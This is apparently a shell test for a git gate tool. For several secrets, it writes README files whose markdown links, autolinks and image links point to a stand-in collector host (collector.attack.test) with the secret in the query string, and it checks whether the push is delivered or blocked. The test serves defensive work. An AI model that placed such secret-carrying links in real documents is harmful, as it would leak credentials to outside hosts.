# A README with a link that carries a secret, pushed through git-gate.
need git
clone
for secret in harmless $secrets; do
	link="https://collector.attack.test/?q=$(text $secret)"
	for form in "[the manual]($link)" "<$link>" "$link" "![]($link \"picture\")"; do
		branch "$secret"
		printf '# Widgets\n\nSee %s first.\n' "$form" >README.md
		keep
		name=$secret-$(printf %s "$form" | cut -c1 | od -An -tx1 | tr -d ' ')
		case $secret in
		harmless) deliver "$name" ;;
		*) offer "$name" "$(rule $secret)" ;;
		esac
	done
done
